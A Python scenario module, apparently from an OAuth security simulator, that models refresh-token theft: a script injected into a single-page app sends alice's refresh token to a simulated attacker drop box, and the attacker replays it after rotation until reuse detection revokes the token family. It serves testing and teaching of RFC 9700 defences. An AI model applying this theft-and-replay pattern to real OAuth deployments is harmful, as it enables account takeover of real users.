"""refresh-token-reuse: a stolen refresh token is used after the client has rotated it.
Rotation with reuse detection, which revokes the whole token family, stops it
(RFC 9700 §4.14.2).

The victim uses the single-page app (public client demo-spa): its refresh token lives in
the browser, where a script injected into the page can read it, and no client secret
protects it. The SPA logs alice in with PKCE and gets its first tokens; the injected script
sends the refresh token to the attacker's drop box; the SPA refreshes (rotation: a new
refresh token, the old one spent); then the attacker uses the stolen, spent one.

The server cannot tell which of the two holders is the thief, so it revokes the whole family:
the attacker gets invalid_grant, and the legitimate SPA is logged out too (its access token
gets 401, its new refresh token invalid_grant). For a one-time theft that is the right
trade-off: alice logs in again, and the thief's copy is dead. It is not enough against a
script that stays in the page (persistent XSS): that script can take the new tokens too, or
simply use the app's session from inside the page. Without rotation (switched off for this
run) the refresh token never changes: the attacker refreshes again and again.
"""

from __future__ import annotations

import secrets

from sim import defences
from sim.parties import ATTACKER, AUTHORIZATION_SERVER
from sim.scenarios.attack_common import (
    SPA,
    answer_param,
    error_of,
    pkce_pair,
    profile_owner,
    read_profile,
    spa_authorization_url,
    spa_redirect_uri,
    token_request,
)
from sim.scenarios.base import (
    AttackScenario,
    Attempt,
    Guard,
    ScenarioError,
    log_in_and_consent,
    step,
)

ATTACKER_REFRESHES = 3
TRADE_OFF = (
    "The server cannot tell the thief from the real app, so it revokes the whole family: the "
    "real user logs in again, and this stolen copy is dead. That ends a one-time theft; a "
    "script that stays in the page can steal the next tokens too."
)


class RefreshTokenReuse(AttackScenario):
    name = "refresh-token-reuse"
    description = "A stolen refresh token is used after rotation (reuse detection)"
    rfc = "RFC 9700 §4.14.2, RFC 6749 §6"
    guards = (
        Guard(
            defences.REFRESH_ROTATION,
            step(ATTACKER, AUTHORIZATION_SERVER, "POST", "/token"),
            "a spent refresh token came back: invalid_grant, and the whole token family is revoked",
            "the refresh token never changes, so the stolen one keeps working",
            "RFC 9700 §4.14.2",
        ),
    )

    def attack(self, sim, flow, off, attacker) -> Attempt:
        spa = sim.user_agent(flow)  # the victim's browser running the SPA
        tokens = _spa_login(sim, spa)
        # A script injected into the SPA's page sends the refresh token to the attacker.
        spa.get(attacker.drop_box(refresh_token=tokens["refresh_token"]))
        stolen = attacker.last("leak", "refresh_token")
        # The SPA refreshes: with rotation it gets a new refresh token, the old one is spent.
        refreshed = token_request(
            spa,
            sim,
            {
                "grant_type": "refresh_token",
                "refresh_token": tokens["refresh_token"],
                "client_id": SPA.client_id,
            },
        )
        if not refreshed.ok:
            raise ScenarioError(f"the SPA's own refresh failed ({refreshed.status_code})")
        spa_tokens = refreshed.json()
        # The attacker uses the stolen refresh token, again and again.
        results = []
        for _ in range(ATTACKER_REFRESHES):
            answer = attacker.http.post(
                sim.authorization_server_url + "/token",
                data={
                    "grant_type": "refresh_token",
                    "refresh_token": stolen,
                    "client_id": SPA.client_id,
                },
                timeout=10,
            )
            results.append(answer)
            if not answer.ok:
                break
        profile = None
        if results[-1].ok:
            profile = read_profile(attacker.http, sim, results[-1].json()["access_token"])
        api_user = profile_owner(profile)
        # Meanwhile the real SPA carries on: its access token, then its refresh token.
        spa_api = spa.request(
            "GET",
            sim.resource_server_url + "/api/profile",
            headers={
                "Authorization": f"Bearer {spa_tokens['access_token']}",
                "Origin": sim.client_url,
            },
        )
        spa_refresh = token_request(
            spa,
            sim,
            {
                "grant_type": "refresh_token",
                "refresh_token": spa_tokens["refresh_token"],
                "client_id": SPA.client_id,
            },
        )
        logged_out = spa_api.status_code == 401 and not spa_refresh.ok
        evidence = {
            "rotated": spa_tokens.get("refresh_token") != tokens["refresh_token"],
            "attacker_refresh_statuses": [r.status_code for r in results],
            "attacker_error": error_of(results[-1]) or None,
            "attacker_read_profile_of": api_user,
            "legitimate_spa_api_status": spa_api.status_code,
            "legitimate_spa_refresh_status": spa_refresh.status_code,
            "legitimate_client_logged_out": logged_out,
        }
        if logged_out:
            evidence["trade_off"] = TRADE_OFF
        succeeded = all(r.ok for r in results) and api_user == "alice"
        return Attempt(
            evidence,
            proof=profile if succeeded else None,
            proves="the attacker, refreshing with the stolen token again and again, reads "
            "alice's profile",
        )


def _spa_login(sim, spa) -> dict:
    """The SPA's login: PKCE authorization request, callback, code redemption from the page."""
    spa.get(sim.client_url + "/spa")
    verifier, challenge = pkce_pair()
    state = secrets.token_urlsafe(16)
    redirect_uri = spa_redirect_uri(sim)
    last = log_in_and_consent(
        spa, spa.get(spa_authorization_url(sim, state, challenge)), stop_at=redirect_uri
    )
    callback = spa.location(last) or ""
    spa.get(callback)  # the SPA's page loads and its script reads code and state
    if answer_param(callback, "state") != state:
        raise ScenarioError("the SPA's state did not come back")
    answer = token_request(
        spa,
        sim,
        {
            "grant_type": "authorization_code",
            "code": answer_param(callback, "code"),
            "redirect_uri": redirect_uri,
            "client_id": SPA.client_id,
            "code_verifier": verifier,
        },
    )
    if not answer.ok or "refresh_token" not in answer.json():
        raise ScenarioError(f"the SPA got no refresh token ({answer.status_code})")
    return answer.json()


SCENARIOS = [RefreshTokenReuse()]
